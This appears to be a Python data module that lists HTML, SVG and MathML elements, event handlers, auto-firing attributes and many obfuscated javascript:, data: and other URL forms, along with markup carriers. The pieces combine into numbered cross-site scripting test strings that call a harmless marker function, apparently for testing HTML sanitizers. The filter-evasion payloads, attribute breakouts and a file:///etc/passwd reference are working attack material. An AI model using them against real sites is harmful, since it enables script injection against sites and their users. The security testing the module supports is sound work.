"""What markup can be made of: elements, event handlers, addresses that run script, and the ways to write them."""

CALL = "xss(NUM)"  # NUM becomes the number of the string

HTML = (
    "a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br"
    " button canvas caption center cite code col colgroup command content data datalist dd del details dfn dialog dir"
    " div dl dt element em embed fencedframe fieldset figcaption figure font footer form frame frameset h1 h2 h3 h4 h5 h6"
    " head header hgroup hr html i iframe image img input ins isindex kbd keygen label legend li link listing main map"
    " mark marquee menu menuitem meta meter multicol nav nextid nobr noembed noframes noscript object ol optgroup option"
    " output p param picture plaintext portal pre progress q rb rp rt rtc ruby s samp script search section select"
    " selectedcontent shadow slot small source spacer span strike strong style sub summary sup table tbody td template"
    " textarea tfoot th thead time title tr track tt u ul var video wbr xmp x-own custom-tag"
).split()
SVG = (
    "svg g a animate animateMotion animateTransform circle clipPath defs desc discard ellipse feImage filter"
    " foreignObject handler image line linearGradient listener marker mask metadata mpath path pattern polygon polyline"
    " rect script set stop style switch symbol text textPath title tspan use view"
).split()
MATHML = (
    "math annotation annotation-xml maction menclose merror mfrac mglyph mi mmultiscripts mn mo mover mpadded mphantom"
    " mprescripts mroot mrow ms mspace msqrt mstyle msub msup mtable mtd mtext mtr munder semantics"
).split()
HANDLERS = (
    "onabort onactivate onafterprint onanimationcancel onanimationend onanimationiteration onanimationstart onauxclick"
    " onbeforecopy onbeforecut onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforetoggle onbeforeunload"
    " onbegin onblur onbounce oncancel oncanplay oncanplaythrough onchange onclick onclose oncommand"
    " oncontentvisibilityautostatechange oncontextlost oncontextmenu oncontextrestored oncopy oncuechange oncut"
    " ondblclick ondrag ondragend ondragenter ondragexit ondragleave ondragover ondragstart ondrop ondurationchange"
    " onemptied onend onended onerror onfinish onfocus onfocusin onfocusout onformdata onfullscreenchange"
    " ongotpointercapture onhashchange oninput oninvalid onkeydown onkeypress onkeyup onlanguagechange onload"
    " onloadeddata onloadedmetadata onloadend onloadstart onlostpointercapture onmessage onmessageerror onmousedown"
    " onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel onoffline ononline onpagehide"
    " onpageshow onpaste onpause onplay onplaying onpointercancel onpointerdown onpointerenter onpointerleave"
    " onpointermove onpointerout onpointerover onpointerrawupdate onpointerup onpopstate onprogress onpropertychange"
    " onratechange onreadystatechange onrejectionhandled onrepeat onreset onresize onscroll onscrollend"
    " onscrollsnapchange onsearch onsecuritypolicyviolation onseeked onseeking onselect onselectionchange onselectstart"
    " onshow onslotchange onstalled onstart onstorage onsubmit onsuspend ontimeupdate ontoggle ontouchcancel ontouchend"
    " ontouchmove ontouchstart ontransitioncancel ontransitionend ontransitionrun ontransitionstart"
    " onunhandledrejection onunload onvolumechange onwaiting onwebkitanimationend onwheel onzoom"
).split()
CALLS = [
    CALL,
    "xss`NUM`",
    "window.xss(NUM)",
    "top['xss'](NUM)",
    "self[`xs`+`s`](NUM)",
    "[NUM].map(xss)",
    "xss?.(NUM)",
    "xss&lpar;NUM&rpar;",
    "&#120;ss(NUM)",
    "\\u0078ss(NUM)",
    "throw onerror=xss,NUM",
    "Reflect.apply(xss,0,[NUM])",
    "eval('xss(NUM)')",
    "setTimeout('xss(NUM)')",
    "new Function('xss(NUM)')()",
    "import('data:text/javascript,xss(NUM)')",
    "location='javascript:xss(NUM)'",
    "{onerror=xss}throw NUM",
]
# What an element needs in order to fire by itself.
STARTERS = {
    "img": "src=x",
    "image": "src=x",
    "audio": "src=x autoplay",
    "video": "src=x autoplay",
    "input": "autofocus type=image src=x",
    "button": "autofocus",
    "textarea": "autofocus",
    "select": "autofocus",
    "a": "href=# autofocus tabindex=0",
    "details": "open",
    "dialog": "open",
    "object": "data=x",
    "embed": "src=x",
    "iframe": "src=about:blank",
    "link": "rel=stylesheet href=x",
    "script": "src=x",
    "source": "src=x srcset=x",
    "track": "src=x",
    "body": "tabindex=0 autofocus",
    "animate": "attributeName=x dur=1s begin=0s",
    "set": "attributeName=x begin=0s",
    "math": "tabindex=0 autofocus",
    "svg": "tabindex=0 autofocus",
}
DATA_HTML = "data:text/html,<script>parent.xss(NUM)</script>"
ADDRESSES = [
    "javascript:xss(NUM)",
    "JaVaScRiPt:xss(NUM)",
    " javascript:xss(NUM)",
    "\x01javascript:xss(NUM)",
    "\x1fjavascript:xss(NUM)",
    "java\tscript:xss(NUM)",
    "java\nscript:xss(NUM)",
    "java\rscript:xss(NUM)",
    "java\0script:xss(NUM)",
    "javascript\t:xss(NUM)",
    "java&Tab;script:xss(NUM)",
    "java&NewLine;script:xss(NUM)",
    "java&#9;script:xss(NUM)",
    "java&#x0A;script:xss(NUM)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;xss(NUM)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;xss(NUM)",
    "&#0000106avascript&#0000058;xss(NUM)",
    "javascript&colon;xss(NUM)",
    "javascript&colon;xss&lpar;NUM&rpar;",
    "javascript&#58xss(NUM)",
    "&Tab;javascript&colon;xss(NUM)",
    "javascript:%78ss(NUM)",
    "javascript:%0axss(NUM)",
    "javascript://x%0axss(NUM)",
    "javascript://courier.example/%0d%0axss(NUM)",
    "javascript:/*--></title></style>*/xss(NUM)",
    "javascript:'<img src=x onerror=parent.xss(NUM)>'",
    "java%73cript:xss(NUM)",
    "javascript%3Axss(NUM)",
    "\u200bjavascript:xss(NUM)",
    "\u00adjavascript:xss(NUM)",
    "\ufeffjavascript:xss(NUM)",
    "\u2028javascript:xss(NUM)",
    "\u00a0javascript:xss(NUM)",
    "java\u200dscript:xss(NUM)",
    "jav\u0430script:xss(NUM)",
    "java\u017fcript:xss(NUM)",
    "javascript\uff1axss(NUM)",
    "\uff4aavascript:xss(NUM)",
    "feed:javascript:xss(NUM)",
    "view-source:javascript:xss(NUM)",
    "jar:javascript:xss(NUM)!/",
    "vbscript:xss(NUM)",
    "VBScript:xss NUM",
    "livescript:xss(NUM)",
    "mocha:xss(NUM)",
    DATA_HTML,
    "data:text/html;base64,BASE64#NUM",
    "data:,<script>parent.xss(NUM)</script>",
    "data:text/html;charset=utf-7,+ADw-script+AD4-parent.xss(NUM)+ADw-/script+AD4-",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.xss(NUM)'/>",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>parent.xss(NUM)</script>",
    "data:text/javascript,xss(NUM)",
    "DATA:TEXT/HTML,<script>parent.xss(NUM)</script>",
    "da\nta:text/html,<script>parent.xss(NUM)</script>",
    "blob:null/xss(NUM)",
    "filesystem:http://127.0.0.1/xss(NUM)",
    "about:blank#xss(NUM)",
    "file:///etc/passwd#NUM",
    "intent://x#Intent;scheme=javascript;S.x=xss(NUM);end",
    "//hostile.invalid/NUM",
    "/\\hostile.invalid/NUM",
    "\\\\hostile.invalid\\NUM",
    "http:hostile.invalid/NUM",
    'https://hostile.invalid/NUM" onmouseover="xss(NUM)',
    "https://hostile.invalid/NUM' onmouseover='xss(NUM)",
    "https://user:xss(NUM)@hostile.invalid/",
    "mailto:x@hostile.invalid?subject=<script>xss(NUM)</script>",
    'mailto:"<svg/onload=xss(NUM)>"@hostile.invalid',
    "tel:xss(NUM)",
    "ws://hostile.invalid/NUM",
]
# Where an address may stand in markup; URL becomes the address.
CARRIERS = [
    '<a href="URL">n</a>',
    "<a href='URL'>n</a>",
    "<a href=URL>n</a>",
    "<a href=`URL`>n</a>",
    '<a/href="URL">n',
    '<a\n\thref\n=\n"URL">n</a>',
    '<area shape=default href="URL">',
    '<iframe src="URL"></iframe>',
    '<embed src="URL">',
    '<object data="URL"></object>',
    '<frameset><frame src="URL"></frameset>',
    '<form action="URL"><input type=submit autofocus></form>',
    '<form><button formaction="URL" autofocus>n</button></form>',
    '<input type=image formaction="URL" src=x>',
    '<base href="URL">',
    '<meta http-equiv=refresh content="0;url=URL">',
    '<link rel=stylesheet href="URL">',
    '<link rel=import href="URL">',
    '<img src="URL">',
    '<img srcset="URL 1x">',
    '<img dynsrc="URL" lowsrc="URL">',
    '<video poster="URL" src="URL"></video>',
    '<body background="URL">',
    '<table background="URL"><td background="URL">',
    '<script src="URL"></script>',
    '<svg><a xlink:href="URL"><text x=9 y=9>n</text></a></svg>',
    '<svg><use href="URL#n"/></svg>',
    '<svg><image href="URL"/></svg>',
    '<svg><script href="URL"/></svg>',
    '<svg><a><animate attributeName=href values="URL"/><text y=9>n</text></a></svg>',
    '<svg><set attributeName=href to="URL"/></svg>',
    '<math href="URL">n</math>',
    '<math><maction actiontype="statusline#" xlink:href="URL">n</maction></math>',
    '<applet code="URL" codebase="URL"></applet>',
    '<blockquote cite="URL">n</blockquote>',
    '<a ping="URL" href="#">n</a>',
    '<portal src="URL"></portal>',
    '<bgsound src="URL">',
    '<isindex action="URL" type=image>',
    '<html manifest="URL">',
    '<div style="background:url(URL)">n</div>',
]
